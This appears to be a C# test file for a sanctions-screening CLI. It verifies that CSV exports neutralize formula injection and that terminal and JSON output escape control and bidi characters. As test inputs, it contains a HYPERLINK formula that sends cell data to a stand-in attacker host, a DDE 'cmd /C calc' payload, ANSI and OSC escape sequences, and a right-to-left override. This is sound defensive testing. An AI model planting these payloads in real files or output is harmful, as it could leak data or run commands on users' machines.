using System.Text;
using CsvHelper;

namespace EntityScreen.Tests.Cli;

/// <summary>
/// Output that reaches a spreadsheet or a terminal cannot be turned against the analyst: CSV cells never start like a
/// formula (unless --csv-raw), and text output never carries control or bidi characters raw.
/// </summary>
public class OutputSafetyTests
{
    private const string FormulaName = "@Example Formula Trading Co";
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Click\")";
    private const string EscapeName = "Evil\u001B[2J\u001B[31mCorp Trading";
    private const string BidiName = "Acme\u202EGNIDART\u202C Holdings";

    private static readonly char[] s_formulaStarts = ['=', '+', '-', '@', '\t', '\r'];

    private static string WriteChina(TempDir dir, params string[] names) =>
        dir.Write(
            "china.csv",
            "list,announcement,name_en,entity_type,country\n"
            + string.Concat(names.Select((n, i) => $"UEL,公告{i},\"{n.Replace("\"", "\"\"", StringComparison.Ordinal)}\",organization,US\n")));

    private static string CsvField(string value) => "\"" + value.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    /// <summary>Every cell of a CSV file, as a spreadsheet reads it (RFC 4180 unquoting), header included.</summary>
    private static List<string[]> ReadCells(string path)
    {
        using var reader = CsvReader.FromFile(path, new CsvReaderOptions { HasHeader = false, FieldCountMismatch = CsvFieldCountHandling.Allow });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add(reader.Current.ToArray());
        }

        return rows;
    }

    private static void AssertNoCellStartsLikeAFormula(List<string[]> rows)
    {
        foreach (var cell in rows.SelectMany(r => r))
        {
            Assert.False(cell.Length > 0 && s_formulaStarts.Contains(cell[0]), $"cell starts like a formula: {cell}");
        }
    }

    private static void AssertNoRawControls(string text)
    {
        foreach (var c in text)
        {
            Assert.False(c is < ' ' and not '\n' and not '\r' || c is '\u007F' or >= '\u0080' and <= '\u009F'
                || c is '\u061C' or '\u200E' or '\u200F' or >= '\u202A' and <= '\u202E' or >= '\u2066' and <= '\u2069',
                $"raw U+{(int)c:X4} in the output:\n{text}");
        }
    }

    [Fact]
    public void Batch_CsvOutput_NoCellStartsLikeAFormula()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, FormulaName);
        var input = dir.Write(
            "queries.csv",
            "id,name\n"
            + $"=1+2,{CsvField(Hyperlink)}\n"
            + "+cmd,+SUM(1;2)\n"
            + "-5,-2+3+cmd|' /C calc'!A0\n"
            + "@x,@SUM(A1:A2)\n"
            + $"m1,{FormulaName}\n"
            + "=err,\n");
        var output = dir.File("results.csv");

        var run = CliHost.Run("batch", "--list", china, "--input", input, "--output", output);

        Assert.True(run.ExitCode == 1, run.ToString());
        var rows = ReadCells(output);
        AssertNoCellStartsLikeAFormula(rows);
        var body = rows.Skip(1).ToList();
        Assert.Equal(["'=1+2", "'+cmd", "'-5", "'@x", "m1", "'=err"], body.Select(r => r[0]));
        Assert.Equal("'" + Hyperlink, body[0][2]);
        Assert.Equal("'-2+3+cmd|' /C calc'!A0", body[2][2]);
        var match = body[4];
        Assert.Equal("'" + FormulaName, match[2]);
        Assert.Equal("'" + FormulaName, match[5]);
        Assert.Equal("'" + FormulaName, match[6]);
        Assert.Equal("1.0", match[7]);

        // The quoted hyperlink cell is one CSV field: its quotes doubled, its comma inside the quotes.
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Click\"\")\"", File.ReadAllText(output, Encoding.UTF8), StringComparison.Ordinal);
    }

    [Fact]
    public void Batch_CsvRaw_WritesCellsAsTheyAre()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, FormulaName);
        var input = dir.Write("queries.csv", $"id,name\n=1+2,{CsvField(Hyperlink)}\nm1,{FormulaName}\n");
        var output = dir.File("results.csv");

        var run = CliHost.Run("batch", "--list", china, "--input", input, "--output", output, "--csv-raw");

        Assert.True(run.ExitCode == 1, run.ToString());
        var body = ReadCells(output).Skip(1).ToList();
        Assert.Equal("=1+2", body[0][0]);
        Assert.Equal(Hyperlink, body[0][2]);
        Assert.Equal(FormulaName, body[1][5]);
    }

    [Fact]
    public void Batch_JsonOutput_IsNotChangedByNeutralization()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, FormulaName);
        var input = dir.Write("queries.csv", $"id,name\n=1+2,{CsvField(Hyperlink)}\n");
        var output = dir.File("results.jsonl");

        var run = CliHost.Run("batch", "--list", china, "--input", input, "--output", output);

        Assert.True(run.ExitCode == 0, run.ToString());
        var row = Assert.Single(CliHost.ReadJsonLines(output));
        Assert.Equal("=1+2", row.GetProperty("id").GetString());
        Assert.Equal(Hyperlink, row.GetProperty("query").GetString());
    }

    [Fact]
    public void Compare_CsvOutput_NoCellStartsLikeAFormula_UnlessRaw()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, FormulaName);
        var input = dir.Write("pairs.csv", $"id,name1,name2\n=1,{CsvField(Hyperlink)},@SUM(A1)\n-7,+Acme,\n");
        var output = dir.File("scores.csv");
        var raw = dir.File("raw.csv");

        var run = CliHost.Run("compare", "--list", china, "--input", input, "--output", output);
        var rawRun = CliHost.Run("compare", "--list", china, "--input", input, "--output", raw, "--csv-raw");

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.True(rawRun.ExitCode == 0, rawRun.ToString());
        var rows = ReadCells(output);
        AssertNoCellStartsLikeAFormula(rows);
        Assert.Equal(["'=1", "'-7"], rows.Skip(1).Select(r => r[0]));
        Assert.Equal(["'" + Hyperlink, "'@SUM(A1)"], rows[1][2..4]);
        Assert.Equal(["=1", "-7"], ReadCells(raw).Skip(1).Select(r => r[0]));
    }

    [Fact]
    public void Screen_Table_EscapesControlAndBidiCharactersOfQueryAndListedNames()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, EscapeName, BidiName);

        var escape = CliHost.Run("screen", EscapeName, "--list", china);
        var bidi = CliHost.Run("screen", BidiName, "--list", china);

        Assert.True(escape.ExitCode == 1, escape.ToString());
        Assert.True(bidi.ExitCode == 1, bidi.ToString());
        AssertNoRawControls(escape.Stdout);
        AssertNoRawControls(bidi.Stdout);
        Assert.Contains("Query: Evil\\u001B[2J\\u001B[31mCorp Trading", escape.Stdout, StringComparison.Ordinal);
        Assert.Contains("Acme\\u202EGNIDART\\u202C Holdings", bidi.Stdout, StringComparison.Ordinal);

        // The listed names in the table are escaped too (not only the echoed query).
        var table = escape.Stdout.Split('\n').Single(l => l.Contains("UEL", StringComparison.Ordinal) && l.Contains("1.0", StringComparison.Ordinal));
        Assert.Contains("Evil\\u001B[2J", table, StringComparison.Ordinal);
    }

    [Fact]
    public void Screen_Table_QueryWithLineBreakOrOscTitle_CannotForgeLines()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, "Northwind Aerodynamics Incorporated");

        var run = CliHost.Run("screen", "Acme\n1.0  strong  SDN  FORGED\u001B]0;pwned\u0007", "--list", china);

        AssertNoRawControls(run.Stdout);
        Assert.Contains("Query: Acme\\u000A1.0  strong  SDN  FORGED\\u001B]0;pwned\\u0007", run.Stdout, StringComparison.Ordinal);
        Assert.DoesNotContain(run.Stdout.Split('\n'), l => l.StartsWith("1.0", StringComparison.Ordinal));
    }

    [Fact]
    public void Screen_Json_EscapesControlAndBidiCharacters_AndKeepsTheValue()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, EscapeName, BidiName);

        foreach (var name in new[] { EscapeName, BidiName, "C1\u009B31m\u0085 \u061C\u200E\u200F\u2066\u2067\u2068\u2069\u202A\u202B\u202D" })
        {
            var run = CliHost.Run("screen", name, "--list", china, "--format", "json");

            AssertNoRawControls(run.Stdout);
            using var doc = run.Json();
            Assert.Equal(name, doc.RootElement.GetProperty("query").GetString());
        }
    }

    [Fact]
    public void Compare_Table_EscapesBothNames()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, "Northwind Aerodynamics Incorporated");

        var run = CliHost.Run("compare", EscapeName, BidiName, "--list", china);

        Assert.True(run.ExitCode == 0, run.ToString());
        AssertNoRawControls(run.Stdout);
        Assert.Contains("Name 1: Evil\\u001B[2J\\u001B[31mCorp Trading", run.Stdout, StringComparison.Ordinal);
        Assert.Contains("Name 2: Acme\\u202EGNIDART\\u202C Holdings", run.Stdout, StringComparison.Ordinal);
    }

    [Fact]
    public void ListsInfo_Table_EscapesTextFromTheFile()
    {
        using var dir = new TempDir();
        // The list code comes from the file's list column and is printed in the parties-by-list line.
        var path = dir.Write(
            "china.csv",
            "list,name_en\n"
            + "UEL\u001B[2J\u202E,Example Trading Ltd\n"
            + ",No List Ltd\n");

        var run = CliHost.Run("lists", "info", "--list", path);

        Assert.True(run.ExitCode == 0, run.ToString());
        Assert.Contains("rejected", run.Stdout, StringComparison.Ordinal);
        Assert.Contains("UEL\\u001B[2J\\u202E 1", run.Stdout, StringComparison.Ordinal);
        AssertNoRawControls(run.Stdout);
    }

    [Fact]
    public void ErrorMessages_QuotingInput_EscapeControlCharacters()
    {
        using var dir = new TempDir();
        var china = WriteChina(dir, "Northwind Aerodynamics Incorporated");
        var input = dir.Write("queries.csv", "id,\u001B[31mcompany\u202E\n1,Acme\n");

        var badHeader = CliHost.Run("batch", "--list", china, "--input", input);
        var badCountry = CliHost.Run("screen", "Acme", "--list", china, "--country", "\u001B[2J");

        Assert.Equal(2, badHeader.ExitCode);
        Assert.Equal(2, badCountry.ExitCode);
        Assert.Contains("\\u001B[31mcompany\\u202E", badHeader.Stderr, StringComparison.Ordinal);
        Assert.Contains("\\u001B[2J", badCountry.Stderr, StringComparison.Ordinal);
        AssertNoRawControls(badHeader.Stderr);
        AssertNoRawControls(badCountry.Stderr);
    }
}
